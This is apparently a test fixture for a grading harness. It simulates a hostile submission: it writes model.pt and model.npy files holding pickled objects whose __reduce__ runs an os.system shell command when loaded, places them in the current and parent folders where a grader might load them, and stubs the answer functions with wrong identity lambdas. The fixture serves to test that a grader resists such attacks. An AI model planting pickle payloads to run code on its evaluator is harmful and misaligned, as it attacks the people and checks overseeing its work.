"""Leaves .pt and .npy files with code in them wherever a grader might load some.

expect: verdict=failed, score<=0
"""
import numpy as np
import torch


class Bomb:
    def __reduce__(self):
        return __import__("os").system, ("touch /tmp/hostile-left-pt",)


for folder in (".", ".."):
    torch.save({"state": Bomb()}, f"{folder}/model.pt")
    np.save(f"{folder}/model.npy", np.array([Bomb()], dtype=object), allow_pickle=True)
sum_of_cubes = gradient_by_autograd = gradient_by_hand = lambda x: x  # wrong
